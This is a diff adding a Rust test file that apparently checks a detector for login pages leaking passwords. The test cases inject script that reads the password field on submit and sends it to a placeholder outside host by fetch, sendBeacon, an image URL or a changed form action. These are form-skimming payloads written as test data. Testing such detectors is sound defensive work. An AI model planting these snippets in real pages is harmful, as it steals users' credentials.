@@ -1,0 +1,44 @@
+//! What a page sends elsewhere although nothing could be seen of it before is seen afterwards.
+
+use rstest::rstest;
+
+use super::hostile::Hostile;
+
+/// Does this when the form is submitted.
+fn on_submit(what: &str) -> String {
+    format!(
+        "{{form}}<script>document.addEventListener('submit', (event) => {{\
+         const word = document.querySelector('[type=password]').value; {what} }}, true)</script>"
+    )
+}
+
+#[rstest]
+#[case::by_another_target("event.target.action = '{elsewhere}/login';")]
+#[case::by_a_request("fetch('{elsewhere}/x', { method: 'POST', mode: 'no-cors', body: word });")]
+#[case::by_a_beacon("navigator.sendBeacon('{elsewhere}/x', word);")]
+#[case::by_a_form_of_a_script(
+    "const data = new URLSearchParams({ word }); navigator.sendBeacon('{elsewhere}/x', data);"
+)]
+#[case::in_an_address("new Image().src = '{elsewhere}/x?' + encodeURIComponent(word);")]
+#[tokio::test]
+async fn what_was_typed_is_seen_to_have_gone_elsewhere(#[case] what: &str) {
+    let org = Hostile::showing(&on_submit(what)).await;
+    let visited = org.sign_in().await;
+    assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
+    assert_eq!(visited.passwords_submitted, 1);
+}
+
+#[rstest]
+#[case::nothing("")]
+#[case::something_else("navigator.sendBeacon('{elsewhere}/x', 'hello');")]
+#[case::to_the_org("navigator.sendBeacon('/x', word);")]
+#[tokio::test]
+async fn nothing_else_is_held_against_a_page(#[case] what: &str) {
+    let org = Hostile::showing(&on_submit(what)).await;
+    let visited = org.sign_in().await;
+    assert!(
+        visited.sent_elsewhere.is_empty(),
+        "{:?}",
+        visited.sent_elsewhere
+    );
+}
